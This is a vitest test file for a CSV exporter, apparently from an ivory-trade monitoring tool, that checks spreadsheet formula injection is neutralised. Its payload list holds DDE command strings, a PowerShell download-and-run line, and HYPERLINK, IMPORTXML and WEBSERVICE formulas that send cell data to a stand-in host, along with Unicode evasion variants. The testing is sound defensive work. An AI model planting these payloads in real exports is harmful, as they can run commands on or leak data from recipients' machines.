import { describe, expect, it } from 'vitest';
import { neutralizeFormula } from '@/lib/files/csv';
import { flagsCsv } from '@/lib/export/csv-columns';
import { flag, observation } from './builder';

/*
 * Spreadsheet formula injection (OWASP "CSV injection", issue 10 point 8).
 * Every payload is put in the ad's title, seller, location and the
 * researcher's notes and tags, the batch CSV is written, and the file is read
 * back as three spreadsheets would: with "," and quotes (RFC 4180), with ";"
 * and quotes (Excel and LibreOffice in much of Europe), and with ";" or a line
 * break ending a cell whatever the quotes. No cell any of them sees may start
 * a formula.
 */

/** OWASP's examples, their common variants, and the ones the issue found live. */
const PAYLOADS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  "=cmd|' /C calc'!A0",
  "=cmd|' /C notepad'!'A1'",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "+2+3+cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?leak="&A1&A2,"Error: please click")',
  '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
  '=WEBSERVICE("http://evil.example/"&A1)',
  '=DDE("cmd";"/C calc";"!A0")A0',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\uFF1D1+1', // ＝ full-width
  '\uFF0B1+1', // ＋
  '\uFF0D1+1', // －
  '\uFF20SUM(1)', // ＠
  '\uFE661+1', // ﹦ small equals
  ' =1+1',
  '   \t @SUM(1)',
  '\u200B=1+1', // zero-width space
  '\uFEFF=1+1', // byte-order mark
  '\u00A0=1+1', // no-break space
  '\u3000=1+1', // ideographic space
  '\u202E=1+1', // right-to-left override
  '\u2060\u200D+1', // word joiner, zero-width joiner
  "Ivory;=cmd|' /C calc'!A0;",
  'tusk\n=1+1',
  'ivory\r\n+HYPERLINK("http://evil.example")',
  'a; @SUM(1)',
  'note;\t=1+1',
  '=1+1;=2+2;-3',
  "netsuke; \u200B=cmd|' /C calc'!A0",
  // forge26: more of what a seller can write.
  '"=1+1', // a leading quote
  '""=1+1',
  "'=1+1", // an apostrophe already there
  ' \uFF1DHYPERLINK("http://evil.example")', // full-width after a space
  '-', // a cell of only "-"
  '+',
  '=',
  'sep=;\r\n=1+1', // a sep= line, then a formula
  'ivory\r=1+1', // CR alone
  "=cmd|'/C powershell IEX(wget evil.example)'!A0",
  'ivory\u2028=1+1', // line separator
  'x\u0000=1+1', // NUL
  '\u202E1+1=', // right-to-left override before a reversed formula
];

const FORMULA = /^[=+\-@\uFF1D\uFF0B\uFF0D\uFF20\uFE66\uFE62\uFE63\uFE6B]/u;
/** What a spreadsheet skips before it decides: white space, invisible characters, and (reading raw) quotes. */
const SKIPPED = /^[\p{White_Space}\p{Cc}\p{Cf}\p{Default_Ignorable_Code_Point}"]*/u;
const startsFormula = (cell: string) => FORMULA.test(cell.replace(SKIPPED, ''));

/** An RFC 4180 reader with a chosen separator; text after a closing quote is kept, as spreadsheets do. */
function readQuoted(text: string, separator: string): string[] {
  const cells: string[] = [];
  let cell = '';
  let quoted = false;
  for (let at = 0; at < text.length; at += 1) {
    const char = text[at]!;
    if (quoted && char === '"' && text[at + 1] === '"') {
      cell += '"';
      at += 1;
    } else if (char === '"') {
      quoted = !quoted;
    } else if (!quoted && (char === separator || char === '\n' || char === '\r')) {
      cells.push(cell);
      cell = '';
    } else {
      cell += char;
    }
  }
  return [...cells, cell];
}

/** A reader that ends a cell at every ";" and line break, quotes or not. */
const readRaw = (text: string) => text.split(/[;\r\n]/);

const csvOf = async (payload: string) =>
  flagsCsv(
    [
      flag({
        n: 1,
        ad: { title: payload, location: payload, seller: { name: payload, id: payload } },
        assessment: { notes: payload, tags: [payload, 'ivory'] },
        observations: [await observation({ n: 1 })],
      }),
    ],
    { batchId: 'b', taxa: () => undefined },
  ).slice(1);

describe('spreadsheet formula neutralisation', () => {
  it(`covers ${PAYLOADS.length} payloads (at least 30)`, () => {
    expect(PAYLOADS.length).toBeGreaterThanOrEqual(30);
  });

  describe.each([
    ['",", quotes honoured', (text: string) => readQuoted(text, ',')],
    ['";", quotes honoured', (text: string) => readQuoted(text, ';')],
    ['";" and line breaks, quotes ignored', readRaw],
  ])('read with %s', (_reader, read) => {
    it.each(PAYLOADS.map((payload) => [JSON.stringify(payload), payload]))(
      '%s starts no formula',
      async (_name, payload) => {
        const cells = read(await csvOf(payload));
        expect(cells.filter(startsFormula)).toEqual([]);
      },
    );
  });

  it.each(PAYLOADS.map((payload) => [JSON.stringify(payload), payload]))(
    '%s keeps every character of the text, with apostrophes only added',
    (_name, payload) => {
      const safe = neutralizeFormula(payload);
      expect(safe.replaceAll("'", '')).toBe(payload.replaceAll("'", ''));
    },
  );

  it('quotes every text cell and leaves numbers bare', async () => {
    const [header, row] = [
      readQuoted((await csvOf('=1+1')).split('\r\n')[0]!, ','),
      (await csvOf('=1+1')).split('\r\n')[1]!,
    ];
    expect(header[0]).toBe('flag_id');
    expect(row).toMatch(/^"[0-9a-f-]{36}","b",/);
    expect(row).toContain(',450,');
  });

  it('leaves ordinary text alone', () => {
    for (const text of [
      'Carved ivory figure',
      'Loxodonta africana; Elephas maximus',
      'price = 450 €',
      'e-mail: a@b.example',
    ])
      expect(neutralizeFormula(text)).toBe(text);
  });
});
